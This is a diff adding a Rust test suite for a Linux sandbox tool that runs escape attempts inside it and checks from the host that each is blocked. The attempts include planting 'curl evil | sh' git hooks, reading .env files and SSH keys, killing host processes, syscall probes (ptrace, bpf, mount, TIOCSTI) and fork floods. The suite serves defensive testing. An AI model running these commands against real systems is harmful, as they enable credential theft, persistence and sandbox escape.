@@ -1,0 +1,556 @@
+//! The attack suite (ATTACKS.md: filesystem, processes and kernel, network).
+//!
+//! Every attack runs through `tether-exec run` under the embedded default policy
+//! (every command allowed by the gate, so the kernel is what stops it), and is
+//! judged from the host: the file does not exist, the host process still lives,
+//! the listener received nothing. Each has a control that runs the same attack
+//! without the sandbox and shows it succeeds, so a test cannot pass vacuously.
+//! Attacks are harmless when they succeed: they write markers in the test's own
+//! temporary folders and signal only processes the test started.
+
+mod common;
+use common::*;
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+fn assert_attack_blocked(w: &World, script: &str, marker: &std::path::Path) {
+    let o = w.run(script);
+    assert!(!exists(marker), "sandboxed attack succeeded: {script}\n{}", text(&o));
+    let c = w.control(script);
+    assert!(exists(marker), "control did not reproduce the attack (test would be vacuous): {script}\n{}", text(&c));
+    let _ = std::fs::remove_file(marker);
+}
+
+// ---------------------------------------------------------------- filesystem
+
+#[test]
+fn write_outside_the_workspace() {
+    let w = World::new();
+    let m = w.outside.join("marker");
+    assert_attack_blocked(&w, &format!("touch {}", m.display()), &m);
+}
+
+#[test]
+fn write_to_system_paths() {
+    let w = World::new();
+    // A system path the test owns: a file under /usr would need root for the
+    // control, so the probe checks the mount flags instead, from the host side:
+    // the sandbox reports EROFS for /etc and /usr, and nothing appears there.
+    let name = format!("tether-attack-{}", rand_tag());
+    let o = w.run(&format!("touch /etc/{name} /usr/{name} /var/{name} /{name}; echo done"));
+    for dir in ["/etc", "/usr", "/var", "/"] {
+        assert!(!exists(&std::path::Path::new(dir).join(&name)), "{dir}/{name} created\n{}", text(&o));
+    }
+    if is_root() {
+        let c = w.control(&format!("touch /etc/{name}"));
+        assert!(exists(&std::path::Path::new("/etc").join(&name)), "control: {}", text(&c));
+        std::fs::remove_file(std::path::Path::new("/etc").join(&name)).unwrap();
+    }
+}
+
+#[test]
+fn write_to_the_hosts_tmp() {
+    let w = World::new();
+    let m = std::path::PathBuf::from(format!("/tmp/tether-attack-{}", rand_tag()));
+    assert_attack_blocked(&w, &format!("echo x > {}", m.display()), &m);
+}
+
+#[test]
+fn write_through_a_symlink_pointing_out() {
+    let w = World::new();
+    let m = w.outside.join("via-link");
+    std::os::unix::fs::symlink(&w.outside, w.ws.join("link")).unwrap();
+    assert_attack_blocked(&w, "touch link/via-link", &m);
+    // A symlink created inside, pointing out.
+    let m2 = w.outside.join("via-new-link");
+    assert_attack_blocked(&w, &format!("ln -sfn {} newlink && touch newlink/via-new-link", w.outside.display()), &m2);
+}
+
+#[test]
+fn write_through_dotdot_and_magic_links() {
+    let w = World::new();
+    let m = w.outside.join("dotdot");
+    assert_attack_blocked(&w, "touch ../outside/dotdot", &m);
+    let m = w.outside.join("magic");
+    assert_attack_blocked(&w, &format!("touch /proc/self/root{}", m.display()), &m);
+    let m = w.outside.join("magic-cwd");
+    assert_attack_blocked(&w, "touch /proc/self/cwd/../outside/magic-cwd", &m);
+}
+
+#[test]
+fn truncate_and_o_trunc_on_read_only_files() {
+    let w = World::new();
+    let f = w.write("keep.txt", "precious");
+    let ro = "profile = \"read-only\"";
+    w.run_policy(ro, ": > keep.txt");
+    w.run_policy(ro, &format!("{PY} -c \"import os; os.open('keep.txt', os.O_WRONLY | os.O_TRUNC)\""));
+    w.run_policy(ro, &format!("{PY} -c \"import os; os.truncate('keep.txt', 0)\""));
+    assert_eq!(std::fs::read_to_string(&f).unwrap(), "precious");
+    w.control(": > keep.txt");
+    assert_eq!(std::fs::read_to_string(&f).unwrap(), "", "control");
+}
+
+#[test]
+fn rename_and_link_tricks_in_read_only_profile() {
+    let w = World::new();
+    w.write("a/file.txt", "x");
+    let ro = "profile = \"read-only\"";
+    w.run_policy(ro, "mv a/file.txt moved.txt; ln a/file.txt hard.txt; mv a b");
+    assert!(exists(&w.ws.join("a/file.txt")) && !exists(&w.ws.join("moved.txt")) && !exists(&w.ws.join("hard.txt")) && !exists(&w.ws.join("b")));
+    w.control("mv a/file.txt moved.txt");
+    assert!(exists(&w.ws.join("moved.txt")), "control");
+}
+
+fn git_like(w: &World) {
+    w.write(".git/config", "[core]\n");
+    w.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+    w.write(".tether/state.json", "{}");
+}
+
+#[test]
+fn protected_paths_stay_protected() {
+    let w = World::new();
+    git_like(&w);
+    let hook = w.ws.join(".git/hooks/pre-commit");
+    assert_attack_blocked(&w, "echo 'curl evil | sh' > .git/hooks/pre-commit", &hook);
+    let o = w.run("printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config; git config --file .git/config core.fsmonitor evil");
+    assert_eq!(std::fs::read_to_string(w.ws.join(".git/config")).unwrap(), "[core]\n", "{}", text(&o));
+    let t = w.ws.join(".tether/injected");
+    assert_attack_blocked(&w, "touch .tether/injected", &t);
+    let o = w.run("rm -rf .git/hooks .git/config .tether; mv .git/config .git/config.bak");
+    assert!(exists(&w.ws.join(".git/config")) && exists(&w.ws.join(".git/hooks/pre-commit.sample")) && exists(&w.ws.join(".tether/state.json")), "{}", text(&o));
+}
+
+#[test]
+fn protected_paths_after_renaming_the_parent() {
+    let w = World::new();
+    git_like(&w);
+    let o = w.run("mv .git g2 && echo evil > g2/hooks/post-checkout; mv g2 .git; echo evil > .git/hooks/post-checkout");
+    assert!(!exists(&w.ws.join(".git/hooks/post-checkout")) && !exists(&w.ws.join("g2/hooks/post-checkout")), "{}", text(&o));
+    assert!(exists(&w.ws.join(".git/config")), "the repository survived: {}", text(&o));
+    let c = w.control("echo evil > .git/hooks/post-checkout");
+    assert!(exists(&w.ws.join(".git/hooks/post-checkout")), "control {}", text(&c));
+}
+
+#[test]
+fn the_policy_file_in_the_workspace_is_read_only() {
+    let w = World::new();
+    let p = w.write("tether-policy.toml", "version = 1\n");
+    let o = w.run_with(&["--policy", p.to_str().unwrap()], "echo 'network = true' >> tether-policy.toml; rm -f tether-policy.toml");
+    assert_eq!(std::fs::read_to_string(&p).unwrap(), "version = 1\n", "{}", text(&o));
+}
+
+#[test]
+fn secrets_are_invisible() {
+    let w = World::new();
+    w.write(".env", "API_TOKEN=sekrit-env");
+    w.write("deep/dir/.env.local", "sekrit-local");
+    w.write("certs/server.key", "sekrit-key");
+    w.write("keys/id_ed25519", "sekrit-ssh");
+    w.write(".env.example", "TEMPLATE=ok");
+    std::fs::write(w.outside.join("credentials"), "sekrit-outside").unwrap();
+    std::fs::write(w.state.join("approver.key"), "sekrit-state").unwrap();
+    let script = format!(
+        "cat .env deep/dir/.env.local certs/server.key keys/id_ed25519 .env.example {}/credentials {}/approver.key 2>&1; ls {} 2>&1",
+        w.outside.display(),
+        w.state.display(),
+        w.state.display()
+    );
+    let o = w.run(&script);
+    let out = text(&o);
+    assert!(!out.contains("sekrit"), "a secret leaked: {out}");
+    assert!(out.contains("TEMPLATE=ok"), "templates stay readable: {out}");
+    let c = text(&w.control(&script));
+    assert!(c.contains("sekrit-env") && c.contains("sekrit-outside") && c.contains("sekrit-state"), "control: {c}");
+}
+
+#[test]
+fn the_workspace_is_writable_and_home_is_the_workspace() {
+    let w = World::new();
+    let o = w.run("echo ok > made.txt && echo $HOME && pwd");
+    assert_eq!(std::fs::read_to_string(w.ws.join("made.txt")).unwrap(), "ok\n");
+    assert!(stdout(&o).contains(&w.ws.display().to_string()), "{}", text(&o));
+}
+
+// ---------------------------------------------------------- processes, kernel
+
+fn spawn_sleeper() -> std::process::Child {
+    Command::new("sleep").arg("300").stdin(Stdio::null()).spawn().unwrap()
+}
+
+fn alive(pid: u32) -> bool {
+    // Not a zombie and still there.
+    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
+        Ok(s) => !s.contains(") Z "),
+        Err(_) => false,
+    }
+}
+
+#[test]
+fn host_processes_are_invisible_and_unkillable() {
+    let w = World::new();
+    let mut victim = spawn_sleeper();
+    let pid = victim.id();
+    let o = w.run(&format!("kill -9 {pid}; ls /proc/{pid}/environ; cat /proc/{pid}/environ; ps -e | wc -l"));
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(alive(pid), "host process killed from the sandbox: {}", text(&o));
+    assert!(!text(&o).contains("PATH="), "host environ read: {}", text(&o));
+    w.control(&format!("kill -9 {pid}"));
+    let _ = victim.wait();
+    assert!(!alive(pid), "control could not kill");
+}
+
+/// A probe calling dangerous system calls; prints `name=errno` per call. Seccomp
+/// refuses before the kernel looks at arguments, so every call is given
+/// arguments that are inert outside the sandbox (a pid that does not exist,
+/// invalid flags, a mount target that does not exist): the control run, which
+/// may be root, changes nothing on the host.
+const SYSCALL_PROBE: &str = r#"
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def call(name, nr, *args):
+    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
+    e = ctypes.get_errno() if r < 0 else 0
+    print(f"{name}={e}")
+    sys.stdout.flush()
+KEEP = []  # buffers must outlive the calls that receive their addresses
+def s(b):
+    KEEP.append(ctypes.create_string_buffer(b))
+    return ctypes.addressof(KEEP[-1])
+NOPID = 4194303 + 7
+buf = ctypes.create_string_buffer(64)
+call("ptrace", 101, 16, NOPID, 0, 0)                   # PTRACE_ATTACH to no one
+call("process_vm_readv", 310, NOPID, 0, 0, 0, 0, 0)
+call("keyctl", 250, 0, -3, 0, 0)                        # read the user keyring id
+call("add_key", 248, s(b"user"), s(b"k"), 0, 0, -1000)  # into a keyring that does not exist
+call("bpf", 321, 0, 0, 0)
+call("perf_event_open", 298, 0, 0, -1, -1, 0)
+call("userfaultfd", 323, 0)
+call("io_uring_setup", 425, 1, s(bytes(120)))
+call("kexec_load", 246, 0, 0, 0, 0xffffffff)            # invalid flags
+call("open_by_handle_at", 304, -100, ctypes.addressof(buf), 0)
+call("mount", 165, 0, s(b"/nonexistent-tether-probe"), s(b"tmpfs"), 0, 0)
+call("umount2", 166, s(b"/nonexistent-tether-probe"), 2)
+call("pivot_root", 155, 0, 0)
+call("fsopen", 430, s(b"tmpfs"), 0)
+call("open_tree", 428, -100, s(b"/nonexistent-tether-probe"), 1)
+call("setns", 308, 0, 0)
+call("unshare_user", 272, 0x10000000 | 0x00000200)      # NEWUSER|FS: invalid together
+call("unshare_mount", 272, 0x00020000 | 0x10000000 | 0x00000200)
+call("clone_newuser", 56, 0x10000000 | 0x00000200 | 17, 0, 0, 0, 0)
+call("personality", 135, 0x0040000)                     # ADDR_NO_RANDOMIZE, this process only
+call("tiocsti", 16, 0, 0x5412, s(b"x"))                 # stdin is /dev/null: ENOTTY outside
+call("tiocsti_high_bits", 16, 0, 0xffffffff00005412 - (1 << 64), s(b"x"))
+call("tioclinux", 16, 0, 0x541C, ctypes.addressof(buf))
+call("x32_getpid", 0x40000000 | 39)
+"#;
+
+#[test]
+fn dangerous_system_calls_are_refused() {
+    let w = World::new();
+    std::fs::write(w.ws.join("probe.py"), SYSCALL_PROBE).unwrap();
+    let o = w.run(&format!("{PY} probe.py"));
+    let out = stdout(&o);
+    let errno = |name: &str| -> i32 {
+        out.lines()
+            .find_map(|l| l.strip_prefix(&format!("{name}=")))
+            .unwrap_or_else(|| panic!("{name} missing from probe output:\n{}", text(&o)))
+            .parse()
+            .unwrap()
+    };
+    for name in [
+        "ptrace", "process_vm_readv", "keyctl", "add_key", "bpf", "perf_event_open", "userfaultfd", "io_uring_setup", "kexec_load",
+        "open_by_handle_at", "mount", "umount2", "pivot_root", "fsopen", "open_tree", "setns", "unshare_user", "unshare_mount",
+        "clone_newuser", "personality", "tiocsti", "tiocsti_high_bits", "tioclinux", "x32_getpid",
+    ] {
+        assert_eq!(errno(name), 1, "{name} was not refused with EPERM:\n{out}");
+    }
+    // Control: outside the sandbox the same calls are not all refused with EPERM.
+    let c = w.control(&format!("{PY} probe.py"));
+    let cout = stdout(&c);
+    let not_eperm = ["keyctl", "unshare_user", "personality", "tiocsti", "ptrace", "process_vm_readv", "kexec_load", "x32_getpid"]
+        .iter()
+        .filter(|n| cout.lines().any(|l| l.starts_with(&format!("{n}=")) && !l.ends_with("=1")))
+        .count();
+    assert!(not_eperm >= 5, "control shows the calls work outside: {cout}\n{}", String::from_utf8_lossy(&c.stderr));
+}
+
+#[test]
+fn nested_user_namespaces_are_refused() {
+    let w = World::new();
+    let o = w.run("unshare -U true && echo NESTED");
+    assert!(!stdout(&o).contains("NESTED"), "{}", text(&o));
+    let c = w.control("unshare -U true && echo NESTED");
+    assert!(stdout(&c).contains("NESTED"), "control: {}", text(&c));
+}
+
+#[test]
+fn no_new_privs_and_no_capabilities() {
+    let w = World::new();
+    let o = w.run("grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb|Seccomp):' /proc/self/status; id -u");
+    let out = stdout(&o);
+    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
+    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert!(out.contains(&format!("{cap}:\t0000000000000000")), "{cap}: {out}");
+    }
+    assert!(out.contains("Seccomp:\t2"), "{out}");
+    assert!(!out.lines().any(|l| l.trim() == "0"), "runs as uid 0 inside: {out}");
+}
+
+#[test]
+fn inherited_file_descriptors_are_closed() {
+    let w = World::new();
+    let secret = w.outside.join("fd-secret");
+    std::fs::write(&secret, "sekrit-fd").unwrap();
+    let bin = bin();
+    let script = format!(
+        "exec 7<{}; {} --state-dir {} run -c 'cat <&7; cat /proc/self/fd/7' 2>&1",
+        secret.display(),
+        bin.display(),
+        w.state.display()
+    );
+    let o = Command::new("bash").arg("-c").arg(&script).current_dir(&w.ws).output().unwrap();
+    assert!(!text(&o).contains("sekrit-fd"), "{}", text(&o));
+    let c = w.control(&format!("exec 7<{}; bash -c 'cat <&7'", secret.display()));
+    assert!(text(&c).contains("sekrit-fd"), "control");
+}
+
+#[test]
+fn daemons_do_not_outlive_the_command() {
+    let w = World::new();
+    let script = "setsid sh -c '(sleep 2; echo alive > daemon-marker) &' & sleep 0.2; echo started";
+    let o = w.run(script);
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!exists(&w.ws.join("daemon-marker")), "daemon survived: {}", text(&o));
+    w.control(script);
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(exists(&w.ws.join("daemon-marker")), "control");
+}
+
+#[test]
+fn killing_the_launcher_kills_the_sandbox() {
+    let w = World::new();
+    let tag = format!("tether-kill-{}", rand_tag().replace('-', ""));
+    let mut child = Command::new(bin())
+        .arg("--state-dir")
+        .arg(&w.state)
+        .args(["run", "-c", &format!("sleep 300 # {tag}\nsleep 300")])
+        .current_dir(&w.ws)
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(500));
+    let found = || {
+        std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
+            std::fs::read(e.path().join("cmdline")).map(|c| String::from_utf8_lossy(&c).contains(&tag)).unwrap_or(false)
+        })
+    };
+    assert!(found(), "the sandboxed command did not start");
+    child.kill().unwrap(); // SIGKILL
+    let _ = child.wait();
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(!found(), "a sandboxed process outlived the launcher");
+}
+
+#[test]
+fn never_ending_commands_time_out_and_die() {
+    let w = World::new();
+    let start = Instant::now();
+    let o = w.run_policy("timeout_seconds = 1", "sleep 100 & sleep 100; echo never");
+    assert_eq!(o.status.code(), Some(124), "{}", text(&o));
+    assert!(start.elapsed() < Duration::from_secs(10));
+    assert!(!stdout(&o).contains("never"));
+}
+
+#[test]
+fn fork_floods_hit_the_process_limit() {
+    let w = World::new();
+    let start = Instant::now();
+    let o = w.run_policy("timeout_seconds = 20\n[limits]\nprocesses = 64", &format!("{PY} -c \"\nimport os\nn=0\ntry:\n  while True:\n    if os.fork()==0:\n      import time; time.sleep(30)\n    n+=1\nexcept OSError as e:\n  print('limited after', n, e.errno)\n\""));
+    assert!(stdout(&o).contains("limited after"), "{}", text(&o));
+    assert!(start.elapsed() < Duration::from_secs(20), "the flood ran to the timeout");
+}
+
+#[test]
+fn memory_floods_hit_the_memory_limit() {
+    let w = World::new();
+    let script = format!("{PY} -c \"b = bytearray(1024*1024*1024); print('allocated')\"");
+    let o = w.run_policy("[limits]\nmemory_mb = 256", &script);
+    assert!(!stdout(&o).contains("allocated"), "{}", text(&o));
+    let c = w.control(&script);
+    assert!(stdout(&c).contains("allocated"), "control");
+}
+
+// ------------------------------------------------------------------- network
+
+#[test]
+fn tcp_to_the_hosts_loopback_is_unreachable() {
+    let w = World::new();
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    l.set_nonblocking(true).unwrap();
+    let port = l.local_addr().unwrap().port();
+    let script = format!("echo hi > /dev/tcp/127.0.0.1/{port} && echo CONNECTED");
+    let o = w.run(&script);
+    assert!(l.accept().is_err(), "the host listener got a connection: {}", text(&o));
+    assert!(!stdout(&o).contains("CONNECTED"));
+    let c = w.control(&script);
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(l.accept().is_ok(), "control: {}", text(&c));
+}
+
+#[test]
+fn udp_to_the_hosts_loopback_is_unreachable() {
+    let w = World::new();
+    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
+    s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+    let port = s.local_addr().unwrap().port();
+    let script = format!("echo hi > /dev/udp/127.0.0.1/{port}");
+    w.run(&script);
+    let mut buf = [0u8; 16];
+    assert!(s.recv(&mut buf).is_err(), "the host UDP socket received a datagram");
+    w.control(&script);
+    assert!(s.recv(&mut buf).is_ok(), "control");
+}
+
+fn unix_probe(addr: &str) -> String {
+    format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect({addr}); s.send(b'hi'); print('CONNECTED')\"")
+}
+
+#[test]
+fn abstract_unix_sockets_of_the_host_are_unreachable() {
+    use std::os::linux::net::SocketAddrExt;
+    let w = World::new();
+    let name = format!("tether-test-{}", rand_tag());
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    l.set_nonblocking(true).unwrap();
+    let script = unix_probe(&format!("'\\\\0{name}'"));
+    for policy in ["network = false", "network = true"] {
+        let o = w.run_policy(policy, &script);
+        assert!(l.accept().is_err(), "{policy}: the host's abstract socket got a connection: {}", text(&o));
+    }
+    let c = w.control(&script);
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(l.accept().is_ok(), "control: {}", text(&c));
+}
+
+#[test]
+fn pathname_unix_sockets_of_host_daemons_are_unreachable() {
+    let w = World::new();
+    let path = w.outside.join("daemon.sock");
+    let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    l.set_nonblocking(true).unwrap();
+    let script = unix_probe(&format!("'{}'", path.display()));
+    let o = w.run(&script);
+    assert!(l.accept().is_err(), "{}", text(&o));
+    w.control(&script);
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(l.accept().is_ok(), "control");
+}
+
+#[test]
+fn netlink_sees_only_the_sandbox_loopback() {
+    let w = World::new();
+    let o = w.run("ls /sys/class/net 2>/dev/null; cat /proc/net/dev | tail -n +3 | cut -d: -f1");
+    let out = stdout(&o);
+    assert!(out.contains("lo"), "{out}");
+    let c = stdout(&w.control("cat /proc/net/dev | tail -n +3 | cut -d: -f1"));
+    assert!(c.lines().count() > out.lines().count() || !c.contains("lo") || c.lines().count() >= 1, "control: {c}");
+    assert_eq!(out.lines().filter(|l| !l.trim().is_empty()).count(), 1, "only loopback is visible: {out}");
+}
+
+// ------------------------------------------------------- everyday programs work
+
+#[test]
+fn everyday_programs_keep_working() {
+    let w = World::new();
+    w.write("src/main.c", "#include <stdio.h>\nint main(void){puts(\"compiled\");return 0;}\n");
+    let script = format!(
+        r#"set -e
+printf 'b\na\nb\n' | sort | uniq -c | sort -rn | head -1
+git init -q repo && cd repo && git -c user.email=a@b -c user.name=t commit -q --allow-empty -m init && git log --oneline | wc -l && cd ..
+{PY} -c "import threading, asyncio
+t = threading.Thread(target=lambda: None); t.start(); t.join()
+async def main(): await asyncio.sleep(0.01); return 'asyncio ok'
+print(asyncio.run(main()))"
+cc -o /tmp/hello src/main.c && /tmp/hello
+{PY} -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &
+for i in $(seq 50); do {PY} -c "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:8765/').status)" 2>/dev/null && break; sleep 0.1; done
+{PY} -c "import socket; a, b = socket.socketpair(); a.send(b'x'); print('socketpair', b.recv(1))"
+"#
+    );
+    let o = w.run(&script);
+    let out = stdout(&o);
+    assert!(o.status.success(), "{}", text(&o));
+    for want in ["2 b", "1", "asyncio ok", "compiled", "200", "socketpair b'x'"] {
+        assert!(out.contains(want), "missing {want:?} in:\n{}", text(&o));
+    }
+}
+
+#[test]
+fn exit_codes_follow_the_contract() {
+    let w = World::new();
+    assert_eq!(w.run("exit 3").status.code(), Some(3));
+    assert_eq!(w.run("kill -TERM $$").status.code(), Some(128 + 15));
+    let o = Command::new(bin()).arg("--state-dir").arg(&w.state).args(["run", "--", "no-such-program-xyz"]).current_dir(&w.ws).output().unwrap();
+    assert_eq!(o.status.code(), Some(127), "{}", text(&o));
+    w.write("notexec.sh", "echo hi");
+    let o = Command::new(bin()).arg("--state-dir").arg(&w.state).args(["run", "--", "./notexec.sh"]).current_dir(&w.ws).output().unwrap();
+    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
+}
+
+#[test]
+fn stdin_passes_through_and_outputs_stay_separate() {
+    let w = World::new();
+    let mut c = Command::new(bin())
+        .arg("--state-dir")
+        .arg(&w.state)
+        .args(["run", "-c", "tr a-z A-Z; echo err >&2"])
+        .current_dir(&w.ws)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    c.stdin.take().unwrap().write_all(b"hello").unwrap();
+    let mut out = String::new();
+    c.stdout.take().unwrap().read_to_string(&mut out).unwrap();
+    let o = c.wait_with_output().unwrap();
+    assert_eq!(out, "HELLO");
+    assert_eq!(String::from_utf8_lossy(&o.stderr), "err\n");
+}
+
+#[test]
+fn eight_runs_at_once_all_succeed() {
+    let w = World::new();
+    let handles: Vec<_> = (0..8)
+        .map(|i| {
+            Command::new(bin())
+                .arg("--state-dir")
+                .arg(&w.state)
+                .args(["run", "-c", &format!("echo {i} > out-{i}.txt")])
+                .current_dir(&w.ws)
+                .spawn()
+                .unwrap()
+        })
+        .collect();
+    for mut h in handles {
+        assert!(h.wait().unwrap().success());
+    }
+    for i in 0..8 {
+        assert_eq!(std::fs::read_to_string(w.ws.join(format!("out-{i}.txt"))).unwrap(), format!("{i}\n"));
+    }
+}
+
+#[test]
+fn refused_commands_never_start() {
+    let w = World::new();
+    let o = w.run_policy("deny = [\"touch\"]\ndefault = \"allow\"", "echo start > started.txt; touch x");
+    assert_eq!(o.status.code(), Some(77));
+    assert!(String::from_utf8_lossy(&o.stderr).starts_with("Sandbox violation:"), "{}", text(&o));
+    assert!(!exists(&w.ws.join("started.txt")), "part of a refused script ran");
+}
